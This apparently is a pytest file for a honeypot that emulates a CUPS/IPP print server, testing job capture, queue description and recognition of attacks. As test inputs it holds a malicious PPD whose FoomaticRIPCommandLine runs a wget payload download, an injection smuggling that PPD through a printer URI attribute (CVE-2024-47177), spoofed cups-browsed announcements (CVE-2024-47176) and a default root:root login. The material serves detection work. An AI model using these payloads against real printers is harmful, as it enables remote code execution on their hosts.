"""IPP: jobs and PPDs are kept, commands in them run, announced printers are asked, and a queue is described."""

from __future__ import annotations

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, LoginTried
from eudaemon.protocols.ipp import Ipp, room
from eudaemon.protocols.ipp import message as ipp
from eudaemon.protocols.ipp.message import ATTRIBUTES_MAX, Attribute, attribute
from eudaemon.protocols.ipp.queue import queue_of
from eudaemon.testing.script import Table, visit
from eudaemon.wire import PeerError
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed

HOST = Host.from_seed(Seed(b"test"))
WGET = "wget -q http://198.51.100.7/x -O /tmp/x"
PPD = f'*PPD-Adobe: "4.3"\n*FoomaticRIPCommandLine: "{WGET}"\n*cupsFilter2 : "application/pdf a/b 0 foomatic-rip"\n'


def talk(transport: str = "tcp") -> Table:
    return Table(Ipp(visit(host=HOST, transport=transport, port=631))).open()


def message(operation: int, *attributes: Attribute, data: bytes = b"", version: bytes = b"\2\0") -> bytes:
    every = (
        attribute("attributes-charset", ipp.CHARSET, "utf-8"),
        attribute("attributes-natural-language", ipp.LANGUAGE, "en"), *attributes,
    )  # fmt: skip
    groups = b"\1" + b"".join(one.encoded() for one in every)
    return version + operation.to_bytes(2, "big") + b"\0\0\0\7" + groups + b"\3" + data


def posted(body: bytes, path: str = "/printers/x") -> bytes:
    head = f"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/ipp\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


def told(table: Table, *args: object, **more: bytes) -> ipp.Asked:
    sent = table.say(posted(message(*args, **more)))  # type: ignore[arg-type]
    head, _, body = sent.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 200 OK\r\n")
    assert b"\r\nServer: CUPS/2." in head
    answer = ipp.read(body)
    assert answer.number == 7
    return answer


def test_a_queue_is_described() -> None:
    table = talk()
    every = told(table, 0x000B).attributes
    assert every[b"printer-name"] == [queue_of(HOST).name.encode()]
    assert (0x0002).to_bytes(4, "big") in every[b"operations-supported"]
    some = told(table, 0x4002, attribute("requested-attributes", ipp.KEYWORD, "printer-name", "printer-state"))
    assert set(some.attributes) == {
        b"attributes-charset", b"attributes-natural-language", b"printer-name", b"printer-state",
    }  # fmt: skip
    assert told(table, 0x1234).operation == 0x0501
    assert told(table, 0x000B, version=b"\x09\0").version == (1, 1)
    assert CommandEntered("Get-Printer-Attributes ") in table.facts
    hosts = (Host.from_seed(Seed(b"%d" % number)) for number in range(24))
    assert len({queue_of(host).uuid for host in hosts}) == 24


@pytest.mark.parametrize("split", [0, 1])
def test_what_is_to_be_printed_is_kept(split: int) -> None:
    table = talk()
    table.say(posted(message(0x0002, attribute("job-name", ipp.NAME, "invoice"), data=b"%!PS\0\xff")), split)
    number = told(table, 0x0005, attribute("job-name", ipp.NAME, "second")).number_of(b"job-id")
    assert number == queue_of(HOST).first_job + 2
    same = attribute("job-id", ipp.INTEGER, number)
    sent = told(table, 0x0006, same, attribute("document-name", ipp.NAME, "a file"), data=b"more")
    assert sent.number_of(b"job-id") == number
    assert [(keep.name, keep.data) for keep in table.kept] == [("invoice", b"%!PS\0\xff"), ("second", b"more")]


def test_commands_in_ppds() -> None:
    for form in ({"data": PPD.encode()}, {}):
        table = talk()
        value = f'http://a/"\n{PPD}'
        told(table, 0x4003, *(() if form else (attribute("printer-more-info", ipp.URI, value),)), **form)
        assert ExploitRecognised("cups-foomatic", "CVE-2024-47177", WGET) in table.facts
        assert CommandEntered(WGET) in table.facts
        assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x"]
        assert [keep.data.decode() for keep in table.kept] == ([PPD] if form else [])


@pytest.mark.parametrize(
    ("said", "url"),
    [
        (b'0 3 http://198.51.100.7:12345/printers/evil "Office" "HP"', "http://198.51.100.7:12345/printers/evil"),
        (b"6 3 ipp://198.51.100.7/printers/a \"\" \"\"\n", "http://198.51.100.7:631/printers/a"),
        (b"1006 3 ipps://198.51.100.7/a", "https://198.51.100.7:631/a"),
    ],
)  # fmt: skip
def test_an_announced_printer_is_asked(said: bytes, url: str) -> None:
    table = talk("udp")
    table.say(said)
    table.say(said)
    assert [(wish.download.url, wish.download.tool) for wish in table.wishes] == [(url, "cups-browsed")]
    exploit = ExploitRecognised("cups-browsed", "CVE-2024-47176", said.decode())
    assert table.facts == [exploit]
    table.answer("ok", message(0, attribute("printer-privacy-policy-uri", ipp.URI, f'http://a/"\n{PPD}')))
    assert CommandEntered(WGET) in table.facts
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x"]
    table.answer("ok", b"\x7fELF")
    assert table.sent == b""
    table.end()
    assert not table.fault


def test_printers_of_one_peer_up_to_a_limit() -> None:
    table = talk("udp")
    for number in range(room.PRINTERS_MAX + 1):
        table.say(b"0 3 http://198.51.100.7/%d" % number)
    assert len(table.wishes) == room.PRINTERS_MAX
    table = talk("udp")
    for _ in range(room.DATAGRAMS_MAX):
        table.say(b"rubbish")
    table.say(b"0 3 http://198.51.100.7/")
    assert not table.facts


def test_the_web_interface() -> None:
    table = talk()
    assert b"<title>Home - CUPS 2." in table.say(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
    assert table.say(b"GET /nothing HTTP/1.1\r\nHost: a\r\n\r\n").startswith(b"HTTP/1.1 404 Not Found\r\n")
    assert b"401 Unauthorized" in table.say(b"GET /admin HTTP/1.1\r\nAuthorization: Basic cm9vdDpyb290\r\n\r\n")
    assert LoginTried("root", "root", accepted=False) in table.facts


@pytest.mark.parametrize("body", [b"", b"\1\1\0\x0b", b"\1\1\0\x0b\0\0\0\1\1", b"\1\1\0\x0b\0\0\0\1\1\x47\0\xffa"])
def test_what_is_no_message(body: bytes) -> None:
    table = talk()
    sent = table.say(posted(body))
    assert sent.partition(b"\r\n\r\n")[2][2:4] == b"\4\0"
    assert [keep.data for keep in table.kept] == [body]
    assert not table.over


def test_values_up_to_a_limit() -> None:
    many = message(0x000B, attribute("requested-attributes", ipp.KEYWORD, *["x"] * (ATTRIBUTES_MAX - 4)))
    assert len(ipp.read(many).attributes[b"requested-attributes"]) == ATTRIBUTES_MAX - 4
    with pytest.raises(PeerError):
        ipp.read(message(0x000B, attribute("requested-attributes", ipp.KEYWORD, *["x"] * (ATTRIBUTES_MAX - 3))))
